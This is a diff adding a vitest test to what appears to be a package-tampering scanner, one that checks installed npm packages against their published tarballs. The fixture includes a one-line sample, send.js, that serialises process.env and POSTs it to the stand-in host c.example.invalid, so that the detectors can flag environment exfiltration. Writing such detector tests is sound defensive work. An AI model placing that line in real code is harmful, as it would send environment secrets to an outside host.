@@ -1,5 +1,8 @@
 import { expect, it } from 'vitest';
-import type { PublishedPackages } from '../../../src/detectors/index.js';
+import { detect as detectAll, type PublishedPackages } from '../../../src/detectors/index.js';
+import { takeInventory } from '../../../src/inventory/index.js';
+import { defaultSignatures } from '../../../src/signatures/index.js';
+import { memoryTree } from '../../support/memory-tree.js';
 import { packageOf } from '../../support/model-builders.js';
 import {
   CODE,
@@ -132,4 +135,26 @@ it('reports when files were compared by their words only', async () => {
 
 it('does nothing unless published packages are given', async () => {
   expect(await detect(installedAs({ 'index.js': 'x' }), null)).toEqual({ findings: [], problems: [] });
+});
+
+it.each([
+  ['removed where all its files are the published ones', {}, []],
+  [
+    'kept where a file differs',
+    { 'index.js': CODE.replace('counter.value', 'counter.value + 1') },
+    ['code/environment-sent low', 'tampered-code high'],
+  ],
+])('a doubt about a package that rules except by its name is %s', async (_case, edits, expected) => {
+  const sends =
+    "const d = JSON.stringify(process.env); const r = https.request({ host: 'c.example.invalid', method: 'POST' }); r.end(d);\n";
+  const tarball = {
+    'package.json': '{"name":"debug","version":"1.0.0"}',
+    'index.js': CODE,
+    'send.js': sends,
+  };
+  const tree = memoryTree(installedAs({ ...tarball, ...edits }, 'node_modules/debug'));
+  const inventory = await takeInventory({ tree, problems: [], image: null });
+  const published = publishing(tarball, { dependencies: new Map(), bin: [] });
+  const { findings } = await detectAll({ tree, inventory, published, signatures: defaultSignatures() });
+  expect(findings.map(({ rule, severity }) => `${rule} ${severity}`).sort()).toEqual(expected);
 });
